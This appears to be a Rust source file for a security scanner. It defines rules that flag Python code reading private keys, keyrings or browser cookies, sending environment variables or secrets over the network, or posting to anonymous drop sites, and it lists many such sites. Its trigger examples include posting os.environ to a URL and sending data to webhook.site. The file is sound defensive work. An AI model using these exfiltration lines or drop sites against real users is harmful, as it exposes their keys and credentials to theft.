//! `credential-read`, `exfiltration`, `drop-site`: keys and passwords are read, or sent away.

use super::{Check, Rule};
use crate::finding::{Class, Confidence, Severity};
use crate::found::Found;
use crate::names::{Meaning, Piece, SourceKind, is_secret, path_of};
use crate::sight::{Sight, Used};

pub(super) static READ: Rule = Rule {
    id: "credential-read",
    class: Class::Threat,
    name: "credential-read",
    severity: Severity::High,
    confidence: Confidence::Medium,
    cwe: 522,
    summary: "a file in which keys, passwords or sessions are kept is read",
    why: "Whoever has what is in it can act for its owner.",
    help: "have the value given to the script by who runs it",
    fires: "open(\"/home/a/.ssh/id_rsa\").read()\n",
    silent: "open(\"/home/a/.ssh/id_rsa.pub\").read()\n",
    differs: None,
    check: Check::Sight(read),
};

pub(super) static SEND: Rule = Rule {
    id: "exfiltration",
    class: Class::Threat,
    name: "exfiltration",
    severity: Severity::High,
    confidence: Confidence::Medium,
    cwe: 200,
    summary: "the environment, keys or other files are sent away",
    why: "The environment holds the keys of whoever runs the script.",
    help: "send only what the receiver needs",
    fires: "import os, requests\nrequests.post(url, data=dict(os.environ))\n",
    silent: "import os, requests\nrequests.post(url, headers={\"Authorization\": os.environ[\"TOKEN\"]})\n",
    differs: None,
    check: Check::Sight(send),
};

pub(super) static DROP: Rule = Rule {
    id: "drop-site",
    class: Class::Capability,
    name: "drop-site",
    severity: Severity::Medium,
    confidence: Confidence::Medium,
    cwe: 200,
    summary: "an address where anybody can leave or fetch data without a name",
    why: "Such places are where stolen data is sent, and what is run next is fetched.",
    help: "use a service of your own",
    fires: "import requests\nrequests.post(\"https://webhook.site/0\", data=x)\n",
    silent: "import requests\nrequests.post(\"https://api.example.com/\", data=x)\n",
    differs: None,
    check: Check::Sight(drop_site),
};

/// What opens or copies the files of its first two arguments.
const OPENERS: &[&str] = &[
    "_pyio.open",
    "aiofiles.open",
    "bz2.open",
    "codecs.open",
    "configparser.ConfigParser.read",
    "dbm.open",
    "fileinput.input",
    "glob.glob",
    "glob.iglob",
    "gzip.open",
    "importlib.machinery.SourceFileLoader",
    "io.FileIO",
    "io.open",
    "linecache.getline",
    "linecache.getlines",
    "lzma.open",
    "mailbox.mbox",
    "netrc.netrc",
    "numpy.fromfile",
    "numpy.loadtxt",
    "open",
    "os.link",
    "os.listdir",
    "os.open",
    "os.rename",
    "os.replace",
    "os.scandir",
    "os.symlink",
    "os.walk",
    "pandas.read_csv",
    "paramiko.RSAKey.from_private_key_file",
    "pkgutil.get_data",
    "shelve.open",
    "shutil.copy",
    "shutil.copy2",
    "shutil.copyfile",
    "shutil.copytree",
    "shutil.make_archive",
    "shutil.move",
    "sqlite3.connect",
    "tarfile.TarFile.add",
    "tarfile.open.add",
    "tokenize.open",
    "zipfile.ZipFile.write",
];

/// Methods of a path that open it.
const PATH_OPENERS: &[&str] = &[
    "pathlib.Path.copy",
    "pathlib.Path.glob",
    "pathlib.Path.iterdir",
    "pathlib.Path.open",
    "pathlib.Path.read_bytes",
    "pathlib.Path.read_text",
    "pathlib.Path.rename",
    "pathlib.Path.replace",
    "pathlib.Path.rglob",
];

/// The paths that a use opens, as far as they are known.
fn opened<'a>(sight: &Sight<'a, '_>, used: &Used<'a>) -> Vec<String> {
    let Some(call) = used.call() else { return Vec::new() };
    let mut values = Vec::new();
    if OPENERS.binary_search(&&*used.name).is_ok() {
        values.extend(sight.argument(call, used.scope, 0, "file"));
        values.extend(sight.argument(call, used.scope, 1, ""));
    }
    if PATH_OPENERS.binary_search(&&*used.name).is_ok() {
        values.extend(sight.receiver(used));
        values.extend(
            sight.argument(call, used.scope, 0, "").into_iter().filter(|_| used.name.ends_with("glob")),
        );
    }
    values.iter().filter_map(path_of).collect()
}

/// What gives out keys by itself.
const KEYRINGS: &[&str] = &[
    "keyring.get_password",
    "browser_cookie3.chrome",
    "browser_cookie3.load",
    "browser_cookie3.firefox",
    "win32crypt.CryptUnprotectData",
    "spwd.getspall",
    "spwd.getspnam",
    "secretstorage.get_default_collection",
];

fn read<'a>(sight: &Sight<'a, '_>, tell: &mut dyn FnMut(Found)) {
    for used in &sight.uses {
        let Some(call) = used.call() else { continue };
        if let Some(path) = opened(sight, used).into_iter().find(|path| is_secret(path)) {
            tell(Found::at(&used.range).message(format!("`{path}` holds keys, passwords or sessions")));
        }
        if KEYRINGS.contains(&&*used.name) || (&*used.name == "netrc.netrc" && call.arguments.is_empty()) {
            tell(
                Found::at(&used.range).message(format!("`{}` reads keys, passwords or sessions", used.name)),
            );
        }
        if used.starts_program() {
            // `cat ~/.ssh/id_rsa`; but not `ssh -i` with it.
            let words = sight.words(call, used.scope);
            let is_meant = words
                .iter()
                .any(|word| word.starts_with("ssh") || word.starts_with("scp") || word.starts_with("rsync"));
            if let Some(word) = words.iter().find(|word| is_secret(word)).filter(|_| !is_meant) {
                let shown: String = word.chars().take(80).collect();
                let message = format!("the command `{shown}` reads keys, passwords or sessions");
                tell(Found::at(&used.range).message(message));
            }
        }
    }
}

/// What sends its arguments to somebody.
fn sends(name: &str) -> bool {
    let Some((root, rest)) = name.split_once('.') else { return false };
    match root {
        "requests" | "httpx" | "aiohttp" | "urllib2" | "urllib3" | "smtplib" | "ftplib" | "websocket"
        | "websockets" | "paramiko" | "telnetlib" | "ssl" | "boto3" | "pycurl" | "discord" | "telegram"
        | "slack_sdk" | "nntplib" | "imaplib" | "poplib" | "treq" | "paho" | "pika" | "redis" | "zmq"
        | "grpc" | "tweepy" | "dropbox" | "pymongo" | "telebot" => true,
        "socket" => rest.contains("send") || looks_up(name),
        "urllib" => rest.starts_with("request.") || rest.starts_with("urlopen"),
        "http" | "xmlrpc" => rest.starts_with("client."),
        "dns" => rest.starts_with("resolver."),
        "asyncio" => rest.starts_with("open_connection"),
        "multiprocessing" => rest.starts_with("connection.Client"),
        "logging" => rest.starts_with("handlers.HTTPHandler") || rest.starts_with("handlers.SocketHandler"),
        _ => false,
    }
}

fn looks_up(name: &str) -> bool {
    matches!(
        name,
        "socket.gethostbyname" | "socket.getaddrinfo" | "socket.gethostbyaddr" | "socket.gethostbyname_ex"
    ) || name.starts_with("dns.resolver.")
}

fn send<'a>(sight: &Sight<'a, '_>, tell: &mut dyn FnMut(Found)) {
    for used in &sight.uses {
        let Some(call) = used.call() else { continue };
        let is_command = used.starts_program();
        if !sends(&used.name) && !is_command {
            continue;
        }
        for values in sight.arguments(call, used.scope) {
            let Some(source) = sight.names.source(&values) else { continue };
            let is_private = match source.kind {
                // `env=os.environ` of a program that is started sends nothing.
                SourceKind::Environment => !is_command,
                SourceKind::Secret => true,
                SourceKind::File | SourceKind::Variable | SourceKind::Input => {
                    looks_up(&used.name) && values.iter().any(is_name_with_gap)
                }
                _ => false,
            };
            if is_private {
                let message = format!("`{}` sends away what comes from {}", used.name, sight.source(source));
                tell(Found::at(&used.range).message(message));
            }
        }
    }
}

/// A host name of which a part is data: `f"{data}.example.com"`.
fn is_name_with_gap(value: &Meaning<'_>) -> bool {
    matches!(value, Meaning::Pattern(pieces) if matches!(&pieces[..], [Piece::Gap(_), .., Piece::Text(_)] | [Piece::Text(_), Piece::Gap(_), ..]))
}

/// Where data is left and fetched without a name.
const SITES: &[&str] = &[
    "webhook.site",
    "discord.com/api/webhooks",
    "discordapp.com/api/webhooks",
    "api.telegram.org/bot",
    "requestbin",
    "pipedream.net",
    "ngrok.io",
    "ngrok-free.app",
    "ngrok.app",
    "pastebin.com/raw",
    "transfer.sh",
    "oast.",
    "interact.sh",
    "burpcollaborator.net",
    "interactsh",
    "file.io",
    "0x0.st",
    "ix.io",
    "termbin.com",
    "canarytokens.com",
    "beeceptor.com",
    "hookbin.com",
    "trycloudflare.com",
    "serveo.net",
    "anonfiles.com",
    "gofile.io",
    "catbox.moe",
    "dpaste.",
    "hastebin.com",
    "rentry.co",
    "ghostbin",
    "requestcatcher.com",
    "dnslog.cn",
    "ceye.io",
    ".onion",
];

fn drop_site<'a>(sight: &Sight<'a, '_>, tell: &mut dyn FnMut(Found)) {
    for used in &sight.uses {
        let Some(call) = used.call().filter(|_| sends(&used.name) || used.starts_program()) else { continue };
        for word in sight.words(call, used.scope) {
            let word = word.to_ascii_lowercase();
            if let Some(site) = SITES.iter().find(|site| word.contains(**site)) {
                let message = format!("`{site}`: an address where anybody leaves or fetches data");
                tell(Found::at(&used.range).message(message));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::{OPENERS, PATH_OPENERS};

    #[test]
    fn names_are_in_order() {
        assert!(OPENERS.is_sorted() && PATH_OPENERS.is_sorted());
    }
}
